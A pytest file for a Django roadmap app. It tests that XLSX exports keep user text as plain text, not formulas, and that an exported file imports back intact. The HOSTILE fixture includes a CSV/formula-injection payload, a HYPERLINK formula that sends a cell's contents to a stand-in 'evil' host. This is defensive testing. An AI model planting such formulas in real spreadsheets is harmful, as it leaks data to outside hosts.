"""The roadmap and municipality XLSX carry what people typed as text, never as formulas."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from roadmaps.documents.importer import import_roadmap
from roadmaps.models import Activity, Section

pytestmark = pytest.mark.django_db

HOSTILE = {
    "content": '=HYPERLINK("http://evil/?"&A1,"x")',
    "second": "- знакомство с методическими рекомендациями",
    "third": "=СУММ(A1:A3)",
    "section": "+7 999 123-45-67",
    "title": "@user: =1+1",
}


@pytest.fixture
def hostile(taganrog):
    activities = list(Activity.objects.filter(roadmap=taganrog).order_by("order")[:3])
    for activity, key in zip(activities, ["content", "second", "third"], strict=True):
        activity.content = HOSTILE[key]
        activity.save(update_fields=["content"])
    section = Section.objects.filter(roadmap=taganrog).order_by("order").first()
    section.title = HOSTILE["section"]
    section.save(update_fields=["title"])
    taganrog.title = HOSTILE["title"]
    taganrog.save(update_fields=["title"])
    return taganrog


def _download(client, url) -> bytes:
    response = client.post(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("export", ["roadmap", "municipality"])
def test_no_cell_of_the_xlsx_is_a_formula_and_the_texts_are_as_typed(client, staff, hostile, export):
    client.force_login(staff)
    if export == "roadmap":
        url = reverse("documents:roadmap_export", args=[hostile.pk, "xlsx"])
    else:
        url = reverse("documents:municipality_export", args=[hostile.owner.municipality_id])
    cells = _cells(_download(client, url))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in HOSTILE.values():
        assert text in texts or any(text in t for t in texts), text
    assert any(c.data_type == "d" for c in cells)  # the windows stay dates
    assert any(c.data_type == "n" for c in cells)  # the summary's counts stay numbers


def test_the_exported_xlsx_imports_back_with_the_same_texts(client, staff, hostile):
    client.force_login(staff)
    content = _download(client, reverse("documents:roadmap_export", args=[hostile.pk, "xlsx"]))
    data = import_roadmap(content, filename="карта.xlsx")

    def contents(activities):
        for a in activities:
            yield a["content"]
            yield from contents(a.get("children", []))

    def sections(items):
        for s in items:
            yield s
            yield from sections(s.get("subsections", []))

    found = set(contents(data["activities"]))
    for s in sections(data["sections"]):
        found.update(contents(s.get("activities", [])))
    assert {HOSTILE["content"], HOSTILE["second"], HOSTILE["third"]} <= found
    assert HOSTILE["section"] in {s["title"] for s in sections(data["sections"])}
    assert data["title"] == HOSTILE["title"]
